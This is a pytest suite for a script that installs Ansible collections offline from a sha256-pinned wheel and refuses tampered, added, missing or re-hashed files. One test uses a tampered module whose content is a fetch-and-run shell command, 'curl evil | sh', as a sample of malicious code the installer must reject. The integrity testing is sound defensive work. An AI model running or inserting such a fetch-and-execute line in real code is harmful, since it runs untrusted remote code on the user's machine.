# -*- coding: utf-8 -*-
# Copyright (c) joelclaw.macmini maintainers
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""scripts/offline_collections.py takes the `ansible` wheel only at its pinned sha256, and each
collection only when every file matches the collection's FILES.json.

The collection inside the test wheel is built by the real `ansible-galaxy collection build` of the
venv's ansible-core, so its MANIFEST.json and FILES.json are the real format, and it is packed the
way the ansible package packs collections: without docs/, tests/ and top-level dot names
(ansible-community/antsibull-build@92d4d04c, src/antsibull_build/python_metadata.py
_get_exclude_package_data). The wheel's dist-info is the minimum pip reads (PEP 427 / core metadata).
"""

from __future__ import annotations

import hashlib
import importlib.util
import io
import json
import os
import subprocess
import sys
import tarfile
import zipfile

import pytest

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
SCRIPT = os.path.join(REPO, 'scripts', 'offline_collections.py')
WHEEL = 'ansible-12.3.0-py3-none-any.whl'
PREFIX = 'ansible_collections/testns/demo/'
MODULE = 'plugins/modules/demo.py'


def _load_script():
    spec = importlib.util.spec_from_file_location('offline_collections_under_test', SCRIPT)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _sha256(data):
    return hashlib.sha256(data).hexdigest()


@pytest.fixture(scope='module', name='collection_files')
def collection_files_fixture(tmp_path_factory):
    """{path: bytes} of testns.demo 1.0.0 as `ansible-galaxy collection build` makes it."""
    tmp = tmp_path_factory.mktemp('build')
    src = tmp / 'src'
    for rel, text in {
        'galaxy.yml': 'namespace: testns\nname: demo\nversion: 1.0.0\nreadme: README.md\nauthors: [tester]\n',
        'README.md': '# demo\n',
        MODULE: '# a module\nprint("demo")\n',
        'plugins/module_utils/_common.py': 'VALUE = 1\n',
        'docs/guide.md': 'left out by the ansible package\n',
        'tests/unit/test_demo.py': 'left out by the ansible package\n',
        '.yamllint': 'left out by the ansible package\n',
    }.items():
        path = src / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    galaxy = os.path.join(os.path.dirname(sys.executable), 'ansible-galaxy')
    result = subprocess.run([galaxy, 'collection', 'build', str(src), '--output-path', str(tmp)],
                            env=dict(os.environ, HOME=str(tmp)), capture_output=True, text=True,
                            timeout=120, check=False)
    assert result.returncode == 0, result.stdout + result.stderr
    files = {}
    with tarfile.open(str(tmp / 'testns-demo-1.0.0.tar.gz')) as tar:
        for member in tar.getmembers():
            if member.isfile():
                files[member.name] = tar.extractfile(member).read()
    listed = [entry['name'] for entry in json.loads(files['FILES.json'])['files'] if entry['ftype'] == 'file']
    assert {'docs/guide.md', 'tests/unit/test_demo.py', '.yamllint', MODULE} <= set(listed)
    return files


def _pack(path, files):
    """A wheel holding the collection as the ansible package does (docs/, tests/, dot names left out)."""
    with zipfile.ZipFile(str(path), 'w') as zf:
        for rel, data in sorted(files.items()):
            top = rel.split('/', 1)[0]
            if top in ('docs', 'tests') or top.startswith('.'):
                continue
            zf.writestr(PREFIX + rel, data)
        zf.writestr('ansible-12.3.0.dist-info/METADATA', 'Metadata-Version: 2.1\nName: ansible\nVersion: 12.3.0\n')
        zf.writestr('ansible-12.3.0.dist-info/WHEEL',
                    'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n')
        zf.writestr('ansible-12.3.0.dist-info/RECORD', '')
    with open(str(path), 'rb') as handle:
        return _sha256(handle.read())


class World:
    def __init__(self, tmp_path, monkeypatch, files):
        self.script = _load_script()
        self.cache = tmp_path / 'cache'
        self.cache.mkdir()
        self.dest = tmp_path / 'collections'
        self.target = self.dest / PREFIX
        self.monkeypatch = monkeypatch
        self.pin(files)

    def pin(self, files, where=None):
        """Pack files into the cached wheel and pin the script to that wheel's sha256."""
        sha = _pack(where or self.cache / WHEEL, files)
        self.monkeypatch.setattr(self.script, 'ANSIBLE_PACKAGE', 'ansible==12.3.0')
        # raising=False: a script without these pins still runs, and the test then shows what it misses.
        self.monkeypatch.setattr(self.script, 'ANSIBLE_WHEEL', WHEEL, raising=False)
        self.monkeypatch.setattr(self.script, 'ANSIBLE_WHEEL_SHA256', sha, raising=False)
        return sha

    def install(self):
        self.script.extract(self.script.find_wheel(self.cache), self.dest, {'testns.demo': '1.0.0'})

    def refused(self):
        with pytest.raises(SystemExit) as caught:
            self.install()
        return str(caught.value.code)


@pytest.fixture(name='world')
def world_fixture(tmp_path, monkeypatch, collection_files):
    return World(tmp_path, monkeypatch, collection_files)


def test_pinned_wheel_installs_and_a_rerun_checks_and_keeps_it(world, collection_files, capsys):
    world.install()
    assert (world.target / MODULE).read_bytes() == collection_files[MODULE]
    assert not (world.target / 'tests').exists()
    assert 'installed testns.demo 1.0.0' in capsys.readouterr().out
    world.install()
    assert capsys.readouterr().out == ''
    assert sorted(os.listdir(str(world.target.parent))) == ['demo']


def test_wheel_whose_sha256_is_not_the_pin_is_refused_before_extracting(world):
    world.monkeypatch.setattr(world.script, 'ANSIBLE_WHEEL_SHA256', _sha256(b'another wheel'), raising=False)
    message = world.refused()
    assert 'is pinned to %s' % _sha256(b'another wheel') in message
    assert 'Nothing was installed' in message
    assert not world.dest.exists()


def test_tampered_file_in_a_wheel_is_refused_even_when_the_pin_moved_to_it(world, collection_files):
    # The pin was moved to a wheel whose module was changed after FILES.json was written.
    tampered = dict(collection_files)
    tampered[MODULE] = b'import os; os.system("curl evil | sh")\n'
    world.pin(tampered)
    message = world.refused()
    assert '%s: sha256 differs from FILES.json' % MODULE in message
    assert not world.target.exists()
    assert os.listdir(str(world.target.parent)) == []


def test_tampered_installed_file_is_refused_on_the_next_run(world):
    world.install()
    (world.target / MODULE).write_text('# changed after install\n')
    message = world.refused()
    assert '%s: sha256 differs from FILES.json' % MODULE in message
    assert 'Remove %s' % world.target in message
    assert (world.target / MODULE).read_text() == '# changed after install\n'


def test_file_added_to_an_installed_collection_is_refused(world):
    world.install()
    (world.target / 'plugins' / 'modules' / 'extra.py').write_text('print("not shipped")\n')
    assert 'plugins/modules/extra.py: a file FILES.json does not list' in world.refused()


def test_listed_file_removed_from_an_installed_collection_is_refused(world):
    world.install()
    (world.target / 'README.md').unlink()
    assert 'README.md: missing' in world.refused()


def test_files_json_rewritten_to_match_a_change_is_refused(world):
    world.install()
    module = world.target / MODULE
    module.write_text('# changed\n')
    files_json = world.target / 'FILES.json'
    data = json.loads(files_json.read_text())
    for entry in data['files']:
        if entry['name'] == MODULE:
            entry['chksum_sha256'] = _sha256(module.read_bytes())
    files_json.write_text(json.dumps(data))
    assert "FILES.json: its sha256 is not the one MANIFEST.json records" in world.refused()
    # ... and MANIFEST.json rewritten too: it is no longer the one the pinned wheel carries.
    manifest = world.target / 'MANIFEST.json'
    data = json.loads(manifest.read_text())
    data['file_manifest_file']['chksum_sha256'] = _sha256(files_json.read_bytes())
    manifest.write_text(json.dumps(data))
    assert 'MANIFEST.json is not the one %s carries' % WHEEL in world.refused()


def test_bytecode_caches_are_not_content(world):
    world.install()
    cache = world.target / 'plugins' / 'module_utils' / '__pycache__'
    cache.mkdir()
    (cache / '_common.cpython-311.pyc').write_bytes(b'\x00')
    world.install()


def test_download_is_hash_checked_by_pip(world, collection_files, tmp_path, monkeypatch):
    index = tmp_path / 'index'
    index.mkdir()
    monkeypatch.setenv('PIP_NO_INDEX', '1')
    monkeypatch.setenv('PIP_FIND_LINKS', str(index))
    sha = world.pin(collection_files, where=index / WHEEL)
    (world.cache / WHEEL).unlink()
    world.install()
    with open(str(world.cache / WHEEL), 'rb') as handle:
        assert _sha256(handle.read()) == sha
    # A different file at the same name on the index: pip's hash-checking mode refuses it.
    (world.cache / WHEEL).unlink()
    tampered = dict(collection_files)
    tampered['README.md'] = b'# other\n'
    _pack(index / WHEEL, tampered)
    message = world.refused()
    assert 'pip download ansible==12.3.0 with --hash=sha256:%s failed' % sha in message
    assert not (world.cache / WHEEL).exists()


def test_script_refuses_without_a_traceback(tmp_path):
    # The real script on a cache holding a wheel that is not the pinned one.
    cache = tmp_path / 'cache'
    cache.mkdir()
    with zipfile.ZipFile(str(cache / getattr(_load_script(), 'ANSIBLE_WHEEL', WHEEL)), 'w') as zf:
        zf.writestr('x', io.BytesIO(b'not the ansible wheel').getvalue())
    result = subprocess.run([sys.executable, SCRIPT, str(tmp_path / 'dest'), '--cache', str(cache)],
                            capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == 1
    assert 'Traceback' not in result.stderr
    assert 'is pinned to' in result.stderr
    assert not (tmp_path / 'dest').exists()
